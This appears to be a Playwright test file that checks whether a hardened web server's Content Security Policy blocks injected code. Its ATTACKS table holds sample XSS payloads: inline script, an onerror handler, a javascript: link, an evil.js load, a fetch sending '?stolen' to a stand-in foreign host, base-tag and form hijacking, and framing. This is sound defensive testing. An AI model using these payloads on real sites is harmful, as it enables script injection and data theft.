"""The hardened server in a real browser: pages keep to their policy, what gets into one cannot run."""

import http.server
import os
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.free_port import free_port
from tests.lake_fixture import LakeWriter
from tests.ui.conftest import ROOT, wait_until_up
from tests.ui.waiting import wait_until

pytestmark = pytest.mark.ui

NOTE = """
window.violations = [];
document.addEventListener("securitypolicyviolation",
  (event) => window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
"""
ATTACKS = {
    "inline script": "const s = document.createElement('script'); s.textContent = 'window.broken = 1';"
    "document.body.append(s);",
    "handler": "const d = document.createElement('div'); document.body.append(d);"
    'd.innerHTML = \'<img src="x:" onerror="window.broken = 1">\';',
    "link": "const a = document.createElement('a'); a.href = 'javascript:window.broken = 1';"
    "document.body.append(a); a.click();",
    "script of another server": "const s = document.createElement('script'); s.src = 'FOREIGN/evil.js';"
    "document.body.append(s);",
    "what it sends away": "fetch('FOREIGN/?stolen').catch(() => 0);",
    "base": "const b = document.createElement('base'); b.href = 'FOREIGN/'; document.head.append(b);",
    "form": "const f = document.createElement('form'); f.action = 'FOREIGN/';"
    "document.body.append(f); f.submit();",
    "frame": "const f = document.createElement('iframe'); f.src = 'FOREIGN/'; document.body.append(f);",
}


@dataclass
class Guarded:
    """A page of the hardened server, with what its console told."""

    page: Page
    address: str
    told: list[str]

    def open(self, query: str) -> Page:
        """Open the app with a query, and wait until it is drawn."""
        self.page.goto(f"{self.address}/app?{query}")
        self.page.wait_for_function("window.Bokeh?.documents?.[0]?.is_idle", timeout=60_000)
        expect(self.page.locator("#loader")).to_be_hidden()
        return self.page

    def violations(self) -> list[str]:
        """What the browser kept the page from doing."""
        found: list[str] = self.page.evaluate("window.violations")
        return found


@pytest.fixture(scope="module")
def hardened(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Address of `energyvis serve` over a lake with a run."""
    folder = tmp_path_factory.mktemp("hardened")
    port, log = free_port(), folder / "server.log"
    LakeWriter(folder / "lake").plain_run(name="finished one")
    environment = {name: value for name, value in os.environ.items() if not name.startswith("ENERGYVIS_")}
    environment |= {"ENERGYVIS_LAKE": str(folder / "lake"), "ENERGYVIS_CACHE": str(folder / "cache")}
    command = [sys.executable, "-c", "from energyvis_panel.cli import main; main()"]
    with log.open("wb") as output:
        process = subprocess.Popen(
            [*command, "serve", "--port", str(port)], cwd=ROOT, env=environment, stdout=output, stderr=output
        )
    try:
        wait_until_up(f"http://localhost:{port}/health", process, log)
        yield f"http://localhost:{port}"
    finally:
        process.terminate()
        process.wait(timeout=20)


@pytest.fixture
def guarded(context: BrowserContext, hardened: str) -> Guarded:
    page = context.new_page()
    page.add_init_script(NOTE)
    told: list[str] = []
    page.on("pageerror", lambda error: told.append(str(error)))
    page.on("console", lambda said: told.append(said.text) if said.type == "error" else None)
    return Guarded(page, hardened, told)


@pytest.fixture
def foreign(tmp_path: Path) -> Iterator[str]:
    """Address of another server."""
    (tmp_path / "evil.js").write_text("window.broken = 1")
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=tmp_path)
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()
        thread.join()


def test_the_study_keeps_to_the_policy(guarded: Guarded) -> None:
    page = guarded.open("page=study&theme=dark")
    page.locator(".bk-Figure").first.hover()
    page.locator(".equations").scroll_into_view_if_needed()
    expect(page.locator(".katex-html").first).to_be_visible()
    expect(page.get_by_text("Lifecycle emissions").first).to_be_visible()
    page.get_by_role("button", name="Export").first.click()
    with page.expect_download():
        page.get_by_role("menuitem", name="CSV").click()
    page.wait_for_load_state("networkidle")
    assert (guarded.violations(), guarded.told) == ([], [])


def test_the_runs_keep_to_the_policy(guarded: Guarded) -> None:
    page = guarded.open("page=runs")
    row = page.locator(".tabulator-row", has_text="finished one")
    expect(row).to_be_visible(timeout=30_000)
    row.locator("[tabulator-field=user]").click()
    expect(page.get_by_text("What power did finished one draw?")).to_be_visible()
    assert (guarded.violations(), guarded.told) == ([], [])


def test_explore_keeps_to_the_policy(guarded: Guarded) -> None:
    page = guarded.open("page=explore")
    for name in ("runtime-energy", "depth", "composition"):
        figure = page.locator(f".cell-{name} .bk-Figure").first
        page.locator(f".cell-{name}").scroll_into_view_if_needed()
        expect(figure).to_be_visible(timeout=60_000)
        figure.hover()
    page.wait_for_function("Bokeh.documents[0].is_idle")
    assert (guarded.violations(), guarded.told) == ([], [])


def test_a_single_view_keeps_to_the_policy(guarded: Guarded) -> None:
    page = guarded.open("view=depth")
    page.locator(".bk-Figure").first.hover()
    assert (guarded.violations(), guarded.told) == ([], [])


def test_what_gets_into_a_page_cannot_run_nor_reach_another_server(guarded: Guarded, foreign: str) -> None:
    page = guarded.open("view=totals")
    asked: list[str] = []
    page.on("requestfinished", lambda request: asked.append(request.url))
    for attack in ATTACKS.values():
        page.evaluate(f"{{ window.violations = []; {attack.replace('FOREIGN', foreign)} }}")
        page.wait_for_function("window.violations.length > 0")
    assert page.evaluate("window.broken") is None
    assert [url for url in asked if url.startswith(foreign)] == []


def test_a_page_that_was_not_named_cannot_frame_it(guarded: Guarded, foreign: str, tmp_path: Path) -> None:
    (tmp_path / "host.html").write_text(f'<iframe src="{guarded.address}/app?view=totals"></iframe>')
    guarded.page.goto(f"{foreign}/host.html")
    wait_until(lambda: any("frame-ancestors" in text for text in guarded.told), guarded.page)
    wait_until(lambda: guarded.page.frames[1].url.startswith("chrome-error:"), guarded.page)
